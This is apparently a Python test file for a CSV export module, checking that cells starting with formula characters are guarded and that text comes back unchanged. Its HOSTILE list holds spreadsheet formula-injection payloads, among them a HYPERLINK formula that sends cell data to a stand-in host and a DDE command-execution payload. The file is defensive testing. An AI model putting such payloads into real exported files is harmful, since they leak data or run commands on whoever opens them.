"""S-35: no cell of a file we write is a formula, and every text comes back as it was."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.documents.csv_file import bare, guarded, money, read, write

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://elsewhere.example/?"&A1,"click")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "-12.50",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff20SUM(A1)",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    'x","=1+1',
    "x\r\n=1+1",
    "x;=1+1",
)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")) | st.builds(
    "{}{}{}".format, st.sampled_from(["", "'", "''"]), st.sampled_from(STARTS), st.text("=1'x")
)


def cells(data: bytes) -> list[list[str]]:
    """As a spreadsheet parses it."""
    return list(csv.reader(io.StringIO(data.decode(), newline=""), strict=True))


@pytest.mark.attack("S-35")
@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_a_spreadsheet_would_run_is_a_text(text: str) -> None:
    for data in (write(["a", "b"], [[text, "x"]]), write([text, "b"], [["x", text]])):
        found = [cell for row in cells(data) for cell in row]
        assert len(found) == 4
        assert not [cell for cell in found if cell.startswith(STARTS)]
        assert text in {cell for row in read(data) for cell in row}


@pytest.mark.attack("S-35")
@given(st.lists(st.lists(TEXTS, min_size=2, max_size=2), max_size=5))
def test_every_text_comes_back_and_none_runs(rows: list[list[str]]) -> None:
    data = write(["one", "two"], rows)
    assert [list(row) for row in read(data)] == [["one", "two"], *rows]
    assert not [cell for row in cells(data) for cell in row if cell.startswith(STARTS)]


@given(TEXTS)
def test_a_guard_is_taken_off_exactly_once(text: str) -> None:
    assert bare(guarded(text)) == text
    assert bare(guarded(guarded(text))) == guarded(text)


def test_numbers_and_days_stay_what_they_are() -> None:
    data = write(["paid", "lines", "on", "none"], [[money(-1_250), 3, date(2026, 3, 1), None]])
    assert data == b'"paid","lines","on","none"\r\n-12.50,3,"2026-03-01",""\r\n'
    assert money(None) is None
    assert money(5) == Decimal("0.05")
